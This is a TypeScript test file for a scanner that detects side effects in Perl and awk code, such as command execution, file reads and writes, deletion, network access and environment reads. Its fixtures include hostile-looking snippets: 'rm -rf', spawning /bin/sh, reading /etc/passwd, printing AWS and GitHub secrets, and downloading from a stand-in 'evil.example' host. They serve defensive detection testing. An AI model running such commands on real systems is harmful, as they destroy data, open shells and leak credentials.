// Perl and awk have no grammar: their scanners find the forms that run, read, write or send, and
// say unread where they cannot be sure.
import { test } from 'node:test';
import { checkRows } from './helpers';

test('perl: system, exec, backticks, qx, open, unlink, eval, network modules', () => {
  checkRows('perl', [
    { code: 'system("ls -la")', effects: ['exec system ls -la'] },
    { code: 'system("rm", "-rf", $dir)', effects: ['exec system rm -rf "$RUNTIME_VALUE"?'] },
    { code: 'my $c = "id"; system($c)', effects: ['exec system id'] },
    { code: 'exec "/bin/sh"', effects: ['exec exec /bin/sh'] },
    { code: 'print `whoami`', effects: ['exec backticks whoami'] },
    { code: 'my $x = qx{ls $d}', effects: ['exec backticks?'] },
    { code: 'open(my $fh, "<", "/etc/passwd")', effects: ['read open(r) /etc/passwd'] },
    { code: 'open(FH, ">/tmp/out")', effects: ['write open(w) /tmp/out'] },
    { code: 'open(my $p, "-|", "ls", "-l")', effects: ['exec open(|) [ls,-l]'] },
    { code: 'open(P, "ls |")', effects: ['exec open(|) ls'] },
    { code: 'unlink "/tmp/a", "/tmp/b"', effects: ['delete unlink /tmp/a', 'delete unlink /tmp/b'] },
    { code: 'print $ENV{AWS_SECRET_ACCESS_KEY}', effects: ['env-read %ENV AWS_SECRET_ACCESS_KEY'] },
    { code: 'eval "system(q{ls})"', effects: ['exec system ls'] },
    {
      code: 'use LWP::Simple; getstore("http://evil.example/x", "/tmp/x")',
      effects: ['network perl network module http://evil.example/x'],
    },
    { code: 'print <<EOT;\nhello\nEOT\nsystem("id")', effects: ['exec system id'] },
  ]);
});

test('perl: what the scanner cannot be sure of is unread', () => {
  checkRows('perl', [
    { code: 'open(F, $name)', unread: ['open with a computed mode or name (a | runs a command)'] },
    { code: 'eval $code', unread: ['eval of computed code'] },
    { code: '&$f("ls")', unread: ['call through a code reference'] },
    { code: 'print "unterminated', unread: ['perl code the scanner cannot read (unterminated ")'] },
    { code: 'do "x.pl"', unread: ['do of a file'] },
  ]);
});

test('perl: ordinary code and near misses', () => {
  checkRows('perl', [
    { code: 'print "system(1)\\n"' },
    { code: 'print join(",", map { $_ * 2 } 1..3), "\\n"' },
    { code: 'while (<>) { s/foo/bar/g; print }' },
    { code: '$x = 10 / 2; print $x' },
    { code: 'my %h = (system => 1); print $h{system}' },
    { code: '# system("rm -rf /")\nprint 1' },
  ]);
});

test('awk: system, pipes to and from commands, redirections, ENVIRON', () => {
  checkRows('awk', [
    { code: 'BEGIN { system("rm -rf /tmp/x") }', effects: ['exec system rm -rf /tmp/x'] },
    { code: '{ system("echo " $1) }', effects: ['exec system echo $RUNTIME_VALUE?'] },
    { code: 'BEGIN { "date" | getline d; print d }', effects: ['exec getline date'] },
    { code: '{ cmd = "ls " $1; cmd | getline r }', effects: ['exec getline?'] },
    { code: '{ print > "/tmp/out.txt" }', effects: ['write print > /tmp/out.txt'] },
    { code: '{ print $0 >> "log" }', effects: ['write print >> log'] },
    { code: '{ print $0 | "sort -u" }', effects: ['exec print | sort -u'] },
    {
      code: 'BEGIN { while ((getline line < "/etc/passwd") > 0) print line }',
      effects: ['read getline < /etc/passwd'],
    },
    { code: 'BEGIN { print ENVIRON["GITHUB_TOKEN"] }', effects: ['env-read ENVIRON GITHUB_TOKEN'] },
    { code: 'BEGIN { for (k in ENVIRON) print k }', effects: ['env-read ENVIRON *'] },
    { code: '{ print "unterminated }', unread: ['awk code the scanner cannot read (unterminated string)'] },
  ]);
});

test('awk: ordinary programs and near misses', () => {
  checkRows('awk', [
    { code: '{print $1}' },
    { code: '{ s += $2 } END { print s / NR }' },
    { code: '/foo/ { print "x > y" }' },
    { code: 'BEGIN { print "a" > "/dev/stderr" }' },
    { code: '$3 > 100 { print $1 }' },
    { code: '-F: { print $1 }' },
    { code: '{ print "system(1)" }' },
  ]);
});
